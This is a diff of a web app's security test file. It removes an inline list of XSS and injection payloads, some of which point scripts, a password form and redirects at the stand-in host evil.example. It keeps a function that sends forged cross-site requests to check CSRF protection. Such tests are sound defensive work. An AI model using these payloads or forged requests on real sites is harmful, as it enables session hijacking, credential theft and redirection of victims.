@@ -2,60 +2,10 @@ import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { calls } from '../src/contract/calls.ts'
 import { m } from '../src/words/compiled/messages.js'
+import { payloads } from './hostile-inputs.ts'
 import { expect, open, owner, test } from './story.ts'
 
-/** What runs, leads away or draws over where somebody forgets to write text as text. */
-const payloads = [
-  '<script>alert(1)</script>',
-  '</script><script>alert(1)</script>',
-  '"><script src=//evil.example/x.js></script>',
-  '<img src=x onerror=alert(1)>',
-  '"><img src=x onerror=alert(1)>',
-  "' onmouseover='alert(1)' x='",
-  '" autofocus onfocus=alert(1) x="',
-  '</textarea><svg onload=alert(1)>',
-  '</title><script>alert(1)</script>',
-  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
-  '<svg><script>alert(1)</script></svg>',
-  '<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>',
-  '<iframe srcdoc="<script>alert(1)</script>">',
-  '<iframe src=javascript:alert(1)>',
-  '<a href="javascript:alert(1)">here</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">here</a>',
-  'javascript:alert(1)//',
-  '<object data=javascript:alert(1)>',
-  '<embed src=javascript:alert(1)>',
-  '<form action=//evil.example><input name=password><button>',
-  '<meta http-equiv=refresh content="0;url=//evil.example">',
-  '<base href=//evil.example/>',
-  '<link rel=stylesheet href=//evil.example/x.css>',
-  '<style>*{display:none}</style>',
-  '<div style="position:fixed;inset:0;background:red">',
-  '<details open ontoggle=alert(1)>',
-  '<video><source onerror=alert(1)>',
-  '<body onload=alert(1)>',
-  '<!--><script>alert(1)</script-->',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '&#60;script&#62;alert(1)&#60;/script&#62;',
-  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
-  '%3Cscript%3Ealert(1)%3C/script%3E',
-  '{{constructor.constructor("alert(1)")()}}',
-  '<%= 7*7 %>#{7*7}',
-  '`-alert(1)-$(alert(1))`',
-  "';alert(1)//",
-  '\\";alert(1)//',
-  '"__proto__":{"x":1}',
-  '﹤script﹥alert(1)﹤/script﹥',
-  '＜script＞alert(1)＜/script＞',
-  '<ScRiPt>alert(1)</sCrIpT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-]
-
-test('what visitors and programs write is text in the owner’s inbox and on her page, whatever it looks like', async ({
-  page,
-  emptyShop,
-}) => {
+test('hostile input stays text in the inbox and on the home page', async ({ page, emptyShop }) => {
   const dialogs: string[] = []
   page.on('dialog', (dialog) => {
     dialogs.push(dialog.message())
@@ -101,11 +51,7 @@ test('what visitors and programs write is text in the owner’s inbox and on her
   expect(strays).toEqual([])
 })
 
-test('a page of another site can do nothing in the name of the owner whose browser opens it', async ({
-  page,
-  context,
-  emptyShop,
-}) => {
+test('a page of another site cannot act with the owner’s session', async ({ page, context, emptyShop }) => {
   const at = (path: string) => `${emptyShop.origin}${path}`
   await page.request.post(at(calls.signInWithPassword.path), { data: owner })
   const everything = async () => {
@@ -121,26 +67,25 @@ test('a page of another site can do nothing in the name of the owner whose brows
   const served = createServer((_, reply) => reply.setHeader('Content-Type', 'text/html').end('<h1>elsewhere</h1>'))
   await new Promise<void>((resolve) => served.listen(0, '127.0.0.1', resolve))
   const { port } = served.address() as AddressInfo
-  // A window of its own, in which the browser complains of all that it holds up.
+  // The browser logs an error for each blocked request, which would fail the story in its own page.
   const thiefs = await context.newPage()
-  // Another name, and the same name at another port, which cookies take for the same site.
+  // Cookies treat the same host at another port as the same site.
   for (const elsewhere of [`http://127.0.0.1:${port}`, `http://localhost:${port}`]) {
     await thiefs.goto(elsewhere)
     const statuses = await thiefs.evaluate(attack, { shop: emptyShop.origin, owner })
     expect(statuses.length).toBeGreaterThan(50)
-    // Some of it has not even been sent; of the rest the other page learns nothing.
     expect(new Set(statuses)).toEqual(new Set(['failed', 'posted']))
     expect((await page.request.post(at(calls.lookup.path), { data: {} })).status()).toBe(200)
   }
   served.close()
   await thiefs.close()
   expect(await everything()).toEqual(before)
-  // Premise: the owner's own session would have been let do it.
+  // The session itself is allowed to make these changes.
   const change = { address: 'A' }
   expect((await page.request.patch(at(calls.changeContactInfo.path), { data: change })).status()).toBe(200)
 })
 
-/** Runs in the page of the other site. */
+/** Sends each forged request. Runs in the page of the other site. */
 async function attack({ shop, owner }: { shop: string; owner: object }): Promise<string[]> {
   const message = { name: 'Evil', email: 'evil@example.com', message: 'from elsewhere' }
   const asked: [method: string, path: string, body: object][] = [
@@ -171,10 +116,7 @@ async function attack({ shop, owner }: { shop: string; owner: object }): Promise
       Object.assign(form, { method: 'post', action: `${shop}${path}?_method=${method}`, enctype, target: 'nowhere' })
       for (const [name, value] of Object.entries(body))
         form.append(Object.assign(document.createElement('input'), { name, value: String(value) }))
-      const loaded = new Promise((resolve) => {
-        frame.addEventListener('load', resolve)
-        setTimeout(resolve, 1_000)
-      })
+      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
       form.submit()
       await loaded
       outcomes.push('posted')
@@ -186,7 +128,6 @@ async function attack({ shop, owner }: { shop: string; owner: object }): Promise
       await new Promise((resolve) => {
         const one = Object.assign(document.createElement(tag), { src: shop + path, onload: resolve, onerror: resolve })
         document.body.append(one)
-        setTimeout(resolve, 1_000)
       })
   return outcomes
 }
